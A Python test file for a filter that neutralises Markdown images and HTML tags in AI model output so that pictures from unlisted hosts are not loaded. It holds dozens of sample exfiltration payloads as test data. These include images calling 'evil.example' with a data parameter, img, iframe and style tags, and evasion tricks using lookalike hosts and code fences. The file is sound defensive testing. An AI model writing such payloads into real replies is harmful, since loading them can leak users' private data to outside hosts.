"""Pictures and tags of others in what a model writes, as a whole and in pieces."""

from __future__ import annotations

import random

import pytest

from graphs.chat.picture_filter import MAX_HELD, PictureFilter, link_pictures
from tools.address_policy import AddressPolicy, find_written_addresses

BOUNDED = AddressPolicy(True, ("ok.example",), find_written_addresses("https://mine.example/a.png"))
LINKED = [
    ("![a](https://evil.example/?d=1)", "[a](https://evil.example/?d=1)"),
    ("![a]( <https://evil.example> 'x')", "[a]( <https://evil.example> 'x')"),
    ("![x [y] z](//evil.example/a)", "[x [y] z](//evil.example/a)"),
    ("![](http://evil.example)!", "[](http://evil.example)!"),
    ("[![a](https://e.example)](https://f.example)", "[[a](https://e.example)](https://f.example)"),
    ("![a][r]\n\n[r]: https://e.example/x", "![a][r]\n\n[r] : https://e.example/x"),
    ("![r]\n\n> [r]:\n> /\\e.example/x", "![r]\n\n> [r] :\n> /\\e.example/x"),
    ("![r]\n\n[r]:" + " " * 300 + "//e.example", "![r]\n\n[r] :" + " " * 300 + "//e.example"),
    ("<img src='https://e.example'>", "&lt;img src='https://e.example'>"),
    ("<IMG\nsrc=x>", "&lt;IMG\nsrc=x>"),
    ("<picture><source srcset=x></picture>", "&lt;picture>&lt;source srcset=x>&lt;/picture>"),
    ("<iframe src=x>", "&lt;iframe src=x>"),
    ("<style>@import url(x)</style>", "&lt;style>@import url(x)&lt;/style>"),
    ("<p style='background:url(//e.example)'>", "&lt;p style='background:url(//e.example)'>"),
    ("<p/style=x>", "&lt;p/style=x>"),
    # What readers of Markdown take for a picture although it does not look like one at first.
    ("!![a](https://e.example)", "[a](https://e.example)"),
    ("![a\nb](https://e.example)", "[a\nb](https://e.example)"),
    ("![a [b [c]]](https://e.example)", "[a [b [c]]](https://e.example)"),
    ("![a\\]b](https://e.example)", "[a\\]b](https://e.example)"),
    ("![`]`](https://e.example)", "[`]`](https://e.example)"),
    (f"![{'a' * 5000}](https://e.example)", f"[{'a' * 5000}](https://e.example)"),
    # Addresses that look allowed.
    ("![a](<https://mine.example/a.png secret>)", "[a](<https://mine.example/a.png secret>)"),
    ("![a](https://e.example\\@ok.example/)", "[a](https://e.example\\@ok.example/)"),
    ("![a](https://ok.example&#46;e.example/)", "[a](https://ok.example&#46;e.example/)"),
    (f"![a](https://ok.example/{'a' * 5000})", f"[a](https://ok.example/{'a' * 5000})"),
    # What looks like code and is none, or not for every reader.
    ("`![a](https://e.example)`", "`[a](https://e.example)`"),
    ("\\`![a](https://e.example)\\`", "\\`[a](https://e.example)\\`"),
    ("so ```\n![a](https://e.example)", "so ```\n[a](https://e.example)"),
    ("so ~~~ ![a](https://e.example)", "so ~~~ [a](https://e.example)"),
    ("- ```\n  ```\n![a](https://e.example)", "- ```\n  ```\n[a](https://e.example)"),
    ("- ```\n\n```\n![a](https://e.example)", "- ```\n\n```\n[a](https://e.example)"),
    ("<div>\n```\n\n![a](https://e.example)", "<div>\n```\n\n[a](https://e.example)"),
    ("<!--\n```\n-->\n![a](https://e.example)", "<!--\n```\n-->\n[a](https://e.example)"),
    ("~~~\r~~~\r![a](https://e.example)\n", "~~~\r~~~\r[a](https://e.example)\n"),
    ("```\ncode\n  ````\n![a](https://e.example)", "```\ncode\n  ````\n[a](https://e.example)"),
    ("``` a`\n![a](https://e.example)", "``` a`\n[a](https://e.example)"),
]
KEPT = [
    "![a](/artifacts/ab)",
    "![a](artifact:ab)",
    "![a](data:image/png;base64,aGk=)",
    f"![a](data:image/png;base64,{'aGk=' * 5000}) and more",
    "![a](https://ok.example/x.png?a=1&b=2)",
    "![a](https://mine.example/a.png)",
    "Great![1] And vec![1, 2] too, vec![[1], [2]] as well!!",
    "```\n<img src=x>\n![a](https://evil.example)\n``` no end\n[r]: //evil.example",
    "~~~html\r\n<img src=x>\r\n```\r\n![a](//e.example)\r\n~~~\r\n`a` < b",
    "a <b>bold</b><br/> [link](https://evil.example), if a<b: List<String>, $5",
    "items[0]: value, `x[1:]`, [a]: b",
    "",
]


@pytest.mark.parametrize(("text", "linked"), LINKED)
def test_what_would_be_loaded_from_elsewhere_is_not_loaded(text: str, linked: str) -> None:
    assert link_pictures(text, BOUNDED) == linked


@pytest.mark.parametrize("text", KEPT)
def test_other_text_and_own_or_listed_pictures_stay(text: str) -> None:
    assert link_pictures(text, BOUNDED) == text


@pytest.mark.parametrize("text", [linked for _, linked in LINKED])
def test_linked_text_stays_as_it_is(text: str) -> None:
    assert link_pictures(text, BOUNDED) == text


def test_pictures_stay_where_nothing_private_was_read() -> None:
    text = "![a](https://evil.example/?d=1)"
    assert link_pictures(text, AddressPolicy()) == text


@pytest.mark.parametrize("seed", range(20))
def test_pieces_joined_are_the_whole_text_however_it_is_cut(seed: int) -> None:
    rng = random.Random(seed)
    parts = [
        *(text for text, _ in LINKED),
        *KEPT,
        "\n",
        "!",
        "[",
        "](",
        "```",
        "\n```\n",
        "]:",
        "<",
    ]
    for _ in range(20):
        text = "".join(rng.choices(parts, k=rng.randint(1, 12)))
        text = text[rng.choice((0, rng.randint(0, len(text)))) :]
        assert "".join(_pieces(text, rng)) == link_pictures(text, BOUNDED)


def test_text_without_pictures_waits_for_one_sign_at_most() -> None:
    filter, sent = PictureFilter(BOUNDED), 0

    for number, sign in enumerate("A word, `code`, **more**! See [1], a] too: a < b, $5.\n", 1):
        sent += len(filter.feed(sign))
        assert number - sent <= 1


@pytest.mark.parametrize(
    "text", ["![a](https://" + "x" * 9000, "![" + "a" * 9000, "<" + "a" * 9000, "[r]:" + " " * 9000]
)
def test_no_more_than_a_bound_is_held(text: str) -> None:
    filter, sent = PictureFilter(BOUNDED), 0

    for number, sign in enumerate(text, 1):
        sent += len(filter.feed(sign))
        assert number - sent <= MAX_HELD + 8

    assert link_pictures(text, BOUNDED).startswith(("[", "&lt;"))


def _pieces(text: str, rng: random.Random) -> list[str]:
    filter, pieces, at = PictureFilter(BOUNDED), [], 0
    most = rng.choice((1, 3, 20))
    while at < len(text):
        end = at + rng.randint(1, most)
        pieces.append(filter.feed(text[at:end]))
        at = end
    return [*pieces, filter.close()]
